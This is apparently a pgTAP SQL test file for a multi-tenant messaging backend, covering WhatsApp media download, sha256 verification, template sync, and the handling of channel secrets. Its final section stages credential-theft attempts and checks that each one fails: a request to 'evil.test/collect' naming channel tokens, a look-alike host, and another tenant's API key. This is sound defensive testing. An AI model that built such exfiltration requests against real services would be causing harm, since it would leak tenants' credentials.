CREATE TEMP TABLE mx AS SELECT * FROM ventros.receive_message(pg_temp.ch('waha'), '5511999998888@c.us', NULL, 'image', 'false_img2',
    media_url => 'https://s3.example.com/bucket/AC95.jpeg');
CREATE TEMP TABLE mxr AS SELECT ventros.request_media_download((SELECT id FROM mx)) AS id;
SELECT is((SELECT headers FROM ventros.http_requests WHERE id = (SELECT id FROM mxr)), '{}',
          'media on another host gets no API key');
SELECT throws_ok(format('SELECT ventros.request_media_download(%L)', pg_temp.inb('ana')), '22023', NULL, 'a text message has no media');

CREATE TEMP TABLE mw AS SELECT * FROM ventros.receive_message(pg_temp.ch('wa'), '16505551234', 'this one', 'image', 'wamid.IMG',
    media_url => 'https://lookaside.fbsbx.com/x', metadata => '{"media_id": "1003383421387256"}');
CREATE TEMP TABLE ml AS SELECT ventros.request_media_download((SELECT id FROM mw)) AS id;
SELECT results_eq($$SELECT method, url, headers, purpose, max_response_size FROM ventros.http_requests WHERE id = (SELECT id FROM ml)$$,
                  $$VALUES ('GET', 'http://graph.test/v23.0/1003383421387256',
                            jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('wa'), 'access_token')), 'media.lookup',
                            NULL::integer)$$,
                  'Cloud API media, step 1: GET /<ver>/<media_id> with the Bearer token (a reference on the row)');
SELECT is(pg_temp.sent((SELECT id FROM ml)), '{"Authorization": "Bearer tok"}', 'the lookup is sent with the token');
SELECT pg_temp.answer((SELECT id FROM ml), 200, jsonb_build_object('messaging_product', 'whatsapp', 'url', 'http://graph.test/media/1003383421387256?ext=1',
    'mime_type', 'image/jpeg', 'sha256', encode(sha256('PNGDATA'), 'hex'), 'file_size', '7', 'id', '1003383421387256')::text);
SELECT results_eq($$SELECT method, url, headers, max_response_size FROM ventros.http_requests WHERE correlation_id = (SELECT id FROM mw) AND purpose = 'media.download'$$,
                  $$VALUES ('GET', 'http://graph.test/media/1003383421387256?ext=1',
                            jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('wa'), 'access_token')),
                            ventros.setting_number('ventros.media_max_size')::integer)$$,
                  'step 2 is queued at once: GET the returned URL with the same Bearer (reference)');
SELECT is(pg_temp.sent((SELECT id FROM ventros.http_requests WHERE correlation_id = (SELECT id FROM mw) AND purpose = 'media.download')),
          '{"Authorization": "Bearer tok"}', 'the download is sent with the token');
SELECT pg_temp.answer((SELECT id FROM ventros.http_requests WHERE correlation_id = (SELECT id FROM mw) AND purpose = 'media.download'), 200, 'PNGDATA',
                      'Content-Type: image/jpeg');
SELECT results_eq($$SELECT size, sha256 FROM ventros.message_media WHERE message_id = (SELECT id FROM mw)$$,
                  $$VALUES (7::bigint, encode(sha256('PNGDATA'), 'hex'))$$, 'the bytes match the announced sha256 and are stored');
CREATE TEMP TABLE mw2 AS SELECT * FROM ventros.receive_message(pg_temp.ch('wa'), '16505551234', NULL, 'image', 'wamid.IMG2',
    media_url => 'https://lookaside.fbsbx.com/y', metadata => '{"media_id": "55"}');
SELECT pg_temp.answer(ventros.request_media_download((SELECT id FROM mw2)), 200,
                      '{"url": "http://graph.test/media/55", "mime_type": "image/jpeg", "sha256": "00ff"}');
SELECT pg_temp.answer((SELECT id FROM ventros.http_requests WHERE correlation_id = (SELECT id FROM mw2) AND purpose = 'media.download'), 200, 'OTHER');
SELECT results_eq($$SELECT metadata->'media_download'->>'status', metadata->'media_download'->>'error' ~ 'sha256 mismatch',
                           (SELECT status || '/' || (data IS NULL) FROM ventros.message_media WHERE message_id = (SELECT id FROM mw2))
                      FROM ventros.messages WHERE id = (SELECT id FROM mw2)$$,
                  $$VALUES ('failed', true, 'failed/true')$$, 'a sha256 mismatch fails the download and stores no bytes');
SELECT is(ventros_test.events_of((SELECT id FROM mw2)), '{message.created,message.updated}',
          'the message is updated once, when the download ends');

-- ---- template sync --------------------------------------------------------------------
SET LOCAL ROLE ventros_admin;
CREATE TEMP TABLE ts AS SELECT ventros.sync_whatsapp_templates(pg_temp.ch('wa')) AS id;
RESET ROLE;
SELECT results_eq($$SELECT method, url, headers, purpose, retry_policy FROM ventros.http_requests WHERE id = (SELECT id FROM ts)$$,
                  $$VALUES ('GET', 'http://graph.test/v23.0/102290129340398/message_templates?fields=id,name,language,status,category,parameter_format,components&limit=100',
                            jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('wa'), 'access_token')),
                            'template.sync', 'graph')$$,
                  'template sync: GET /<ver>/<waba_id>/message_templates with the Bearer token (a reference on the row)');
SELECT is(pg_temp.sent((SELECT id FROM ts)), '{"Authorization": "Bearer tok"}', 'the sync is sent with the token');
SELECT pg_temp.answer((SELECT id FROM ts), 200, '{"data": [
    {"name": "order_update", "language": "pt_BR", "status": "PAUSED", "category": "UTILITY", "id": "111",
     "components": [{"type": "BODY", "text": "Olá {{1}}"}]},
    {"name": "hello_world", "language": "en_US", "status": "APPROVED", "category": "UTILITY", "id": "222",
     "components": [{"type": "BODY", "text": "Hello World"}]},
    {"name": "welcome", "language": "es", "status": "APPROVED", "category": "MARKETING", "id": "333",
     "components": [{"type": "BODY", "text": "Hola {{1}}"}]}],
  "paging": {"cursors": {"before": "a", "after": "b"}}}');
SELECT results_eq($$SELECT name, language, status, provider_template_id FROM ventros.whatsapp_templates
                    WHERE channel_id = pg_temp.ch('wa') AND deleted_at IS NULL ORDER BY name$$,
                  $$VALUES ('hello_world', 'en_US', 'APPROVED', '222'), ('order_update', 'pt_BR', 'PAUSED', '111'),
                           ('welcome', 'es', 'APPROVED', '333')$$,
                  'the sync upserts the listed templates and deletes the one no longer listed');
SELECT results_eq($$SELECT event_type, count(*)::int FROM ventros.outbox WHERE aggregate_type = 'whatsapp_template'
                    GROUP BY event_type ORDER BY event_type$$,
                  $$VALUES ('whatsapp_template.created', 5), ('whatsapp_template.deleted', 2), ('whatsapp_template.updated', 2)$$,
                  'created for the new one, updated for the changed ones, deleted for the gone one (unchanged: nothing)');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_name => %L)', pg_temp.ch('wa'), pg_temp.who('old'), pg_temp.ag(), 'order_update'),
                 '22023', 'WhatsApp template order_update (pt_BR) is paused', 'a template Meta paused is no longer sent');
SET LOCAL ROLE ventros_admin;
SELECT throws_ok(format('SELECT ventros.sync_whatsapp_templates(%L)', pg_temp.ch('waha')), '22023', NULL, 'no template sync on WAHA');
RESET ROLE;

-- ---- channel tokens are never on a row a tenant may read ----------------------------
-- Every request above (sends on WAHA, Cloud API, Instagram, Messenger, media
-- lookups and downloads, template sync) as the tenant's administrator sees it.
SET LOCAL ROLE ventros_admin;
SELECT is((SELECT count(*)::int FROM ventros.http_requests r
            WHERE row_to_json(r)::text LIKE ANY (ARRAY['%"k1"%', '%Bearer tok"%', '%Bearer igtok"%', '%Bearer pagetok"%'])),
          0, 'no http_requests row a tenant administrator reads holds a channel token');
SELECT ok((SELECT count(*) FROM ventros.http_requests r WHERE r.headers::text LIKE '%{channel\_secret:%') >= 6,
          'the rows hold references instead');
-- An administrator may write a request: one to another host, naming the
-- channels' secrets, is sent without them.
CREATE TEMP TABLE steal AS SELECT ventros.enqueue_http_request('http://evil.test/collect', 'POST',
    jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('wa'), 'access_token'),
                       'X-Api-Key', pg_temp.ref(pg_temp.ch('waha'), 'api_key')), NULL, 'message.send', NULL) AS id;
RESET ROLE;
SELECT is(pg_temp.sent((SELECT id FROM steal)), '{"Authorization": "Bearer ", "X-Api-Key": ""}',
          'a request to another host gets no channel secret');
SET LOCAL ROLE ventros_admin;
UPDATE ventros.http_requests SET url = 'http://graph.test.evil.test/v23.0/x' WHERE id = (SELECT id FROM steal);
RESET ROLE;
SELECT is(pg_temp.sent((SELECT id FROM steal))->>'Authorization', 'Bearer ', 'nor one whose host only starts like the provider''s');
-- another tenant's channel: its secret never goes into this tenant's request
SELECT ventros.create_tenant('send_o', 'Other');
SET LOCAL ventros.tenant = 'send_o';
CREATE TEMP TABLE och AS SELECT (ventros.create_channel('Other WAHA', 'waha', config => '{"base_url": "http://waha.test:3000/", "session": "o", "api_key": "otherkey"}')).id;
GRANT SELECT ON och TO PUBLIC;
SET LOCAL ventros.tenant = 'send_t';
SET LOCAL ROLE ventros_admin;
CREATE TEMP TABLE borrow AS SELECT ventros.enqueue_http_request('http://waha.test:3000/api/sendText', 'POST',
    jsonb_build_object('X-Api-Key', pg_temp.ref((SELECT id FROM och), 'api_key')), NULL, 'message.send', NULL) AS id;
RESET ROLE;
SELECT is(pg_temp.sent((SELECT id FROM borrow)), '{"X-Api-Key": ""}', 'another tenant''s channel secret is not put in');
SELECT is((SELECT preparer::text FROM ventros.http_request_preparers WHERE purpose = 'contact.profile'),
          'ventros.channel_request_headers(ventros.http_requests)', 'profile lookups (sql/89_inbound_meta.sql) are prepared the same way');

SELECT * FROM finish();
ROLLBACK;
